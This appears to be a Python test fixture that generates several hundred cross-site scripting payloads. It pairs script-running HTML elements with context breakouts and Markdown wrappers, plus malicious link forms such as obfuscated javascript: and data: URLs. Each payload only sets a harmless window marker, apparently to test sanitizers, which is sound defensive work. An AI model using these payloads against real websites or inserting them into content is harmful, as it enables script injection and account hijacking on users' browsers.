"""Texts that run a script if a page writes them as markup; each then leaves a mark on the window. Three hundred, and as
many again inside Markdown.
"""

from itertools import product

RUN = "window.executed=1"
ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<link rel=stylesheet href=data:, onload={RUN}>",
    f"<style onload={RUN}></style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<template><img src=x onerror={RUN}></template><img src=x onerror={RUN}>",
    f"<img src=x onerror=\x0b{RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
]
# What the text may stand in where it is written: markup, an attribute, a comment, a script, a template, a text area.
PLACES = [
    "%",
    '"><%',
    "'>%",
    "-->%",
    "</script>%",
    "</textarea></title>%",
    "{{7*7}}%",
    "\\u003c%",
    "]]>%",
    "`${%}`",
    f'" autofocus onfocus={RUN} x="%',
    "&lt;%",
]


def payloads() -> list[str]:
    """All of them."""
    return [place.replace("%", element) for place, element in product(PLACES, ELEMENTS)]


# What Markdown makes markup of, around a hostile text or with an address that runs.
MARKDOWN = [
    "# %",
    "**%**",
    "> %",
    "- %",
    "| % | b |\n| --- | --- |\n| c | % |",
    "```%\n%\n```",
    "`%`",
    "[%](https://a.example)",
    '[x](https://a.example "%")',
    "[x](<%>)",
    "![%](https://a.example/%.png)",
    "~~%~~",
]
LINKS = [
    f"[x](javascript:{RUN})",
    f"![x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    "[x](/admin/logout/)",
    "[x](//evil.example)",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f'[x](https://a.example "" onmouseover={RUN})',
    f'https://a.example/"onmouseover={RUN}',
    f"[x](https://a.example/'onmouseover={RUN})",
]


def marked() -> list[str]:
    """Hostile texts as Markdown."""
    return [*LINKS, *(form.replace("%", element) for form, element in product(MARKDOWN, ELEMENTS))]
